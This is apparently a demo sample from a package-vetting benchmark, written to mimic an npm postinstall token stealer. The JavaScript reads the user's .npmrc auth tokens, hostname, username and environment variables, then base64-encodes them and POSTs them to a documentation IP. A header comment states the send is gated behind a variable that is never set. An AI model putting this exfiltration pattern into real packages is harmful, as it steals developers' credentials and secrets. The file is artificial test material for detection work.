// VETBENCH DEMO PACKAGE - INERT. Shaped like the npm postinstall token stealers: read the
// user's .npmrc (auth tokens) and the environment, send them to a bare IP. 192.0.2.44 is
// TEST-NET-1 (RFC 5737) and the send is behind a variable that is never set.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const data = {
  host: os.hostname(),
  user: os.userInfo().username,
  npmrc: (() => { try { return fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) { return ''; } })(),
  env: JSON.stringify(process.env),
};

if (process.env.VETBENCH_DEMO_NEVER_SET === 'yes') {
  const req = https.request({ host: '192.0.2.44', port: 443, path: '/c', method: 'POST' });
  req.write(Buffer.from(JSON.stringify(data)).toString('base64'));
  req.end();
}
